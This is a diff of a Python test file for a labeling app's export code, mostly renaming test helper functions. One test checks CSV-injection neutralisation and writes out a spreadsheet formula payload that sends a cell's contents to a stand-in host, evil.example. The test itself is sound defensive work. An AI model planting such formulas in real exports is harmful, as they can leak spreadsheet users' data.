@@ -12,8 +12,7 @@ from app.db.enums import Split
 from app.db.models import Response
 from app.services import export, gold, labelers
 from app.services.errors import Invalid, NotFound
-from tests.conftest import make_user
-from tests.quality_data import annotate, bulk_seed_session, make_set, make_task
+from tests.factories import annotate, bulk_seed_session, make_prompt_set, make_user, task_with_ids
 
 DAY1 = datetime(2024, 5, 1, 9, 0, tzinfo=UTC)
 
@@ -32,7 +31,7 @@ def _lines(payload: str) -> list[dict]:
 def labeled(session):
     """A set with three labelers who agree (bob with a tie), one who reverses
     everything, a gold task, prompts in two splits and labels on two days."""
-    ps = make_set(session, k=3, overlap=4)
+    ps = make_prompt_set(session, k=3, overlap=4)
     ann, bob, cal, odd = (make_user(session, username=n) for n in ("x-ann", "x-bob", "x-cal", "x-odd"))
     tasks = []
     for i in range(4):
@@ -41,14 +40,14 @@ def labeled(session):
         if i == 0:
             messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hi?"},
                         {"role": "assistant", "content": "Hello."}, {"role": "user", "content": "Name a fruit."}]
-        task, ids = make_task(session, ps, split=split, messages=messages)
+        task, ids = task_with_ids(session, ps, split=split, messages=messages)
         tasks.append((task, ids))
         day = DAY1 + timedelta(days=i % 2)
         annotate(session, task, ids, ann, [1, 2, 3], created_at=day)
         annotate(session, task, ids, bob, [1, 2, 2], [7, 4, 4], created_at=day, flags=["unclear"] if i == 1 else None)
         annotate(session, task, ids, cal, [1, 2, 3], created_at=day)
         annotate(session, task, ids, odd, [3, 2, 1], created_at=day)
-    gold_task, gold_ids = make_task(session, ps)
+    gold_task, gold_ids = task_with_ids(session, ps)
     gold.mark_gold(session, prompt_set_id=ps.id, task_id=gold_task.id, best_response_id=gold_ids[0])
     annotate(session, gold_task, gold_ids, ann, [1, 2, 3], created_at=DAY1)
     return ps, ann, bob, odd, tasks
@@ -156,8 +155,8 @@ def test_annotations_csv_has_one_row_per_rating(session, labeled):
 def test_annotations_csv_neutralises_spreadsheet_formulas(session):
     """A labeler's comment or a model's response that starts like a formula is written
     with a leading ' (OWASP's CSV-injection rule), so a spreadsheet shows it as text."""
-    ps = make_set(session, k=3, overlap=1)
-    task, ids = make_task(session, ps, messages=[{"role": "user", "content": "@SUM(A1:A9)"}])
+    ps = make_prompt_set(session, k=3, overlap=1)
+    task, ids = task_with_ids(session, ps, messages=[{"role": "user", "content": "@SUM(A1:A9)"}])
     annotation = annotate(session, task, ids, make_user(session, username="@x-sum"), [1, 2, 3])
     annotation.comment = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
     for response_id, text_ in zip(ids, ["+1+1", "-2+3", "\tcell"]):
@@ -262,7 +261,7 @@ def test_unknown_kind_format_or_set(session, labeled):
 
 
 def test_a_big_export_streams_in_chunks_from_a_server_side_cursor(session):
-    ps = make_set(session, k=4, overlap=2)
+    ps = make_prompt_set(session, k=4, overlap=2)
     users = {make_user(session).id: "consistent", make_user(session).id: "consistent", make_user(session).id: "random"}
     counts = bulk_seed_session(session, prompt_set_id=ps.id, labelers=users, tasks=400, k=4, overlap=2)
     assert counts.comparisons == 400 * 2 * 6  # no ties in the synthetic rankings
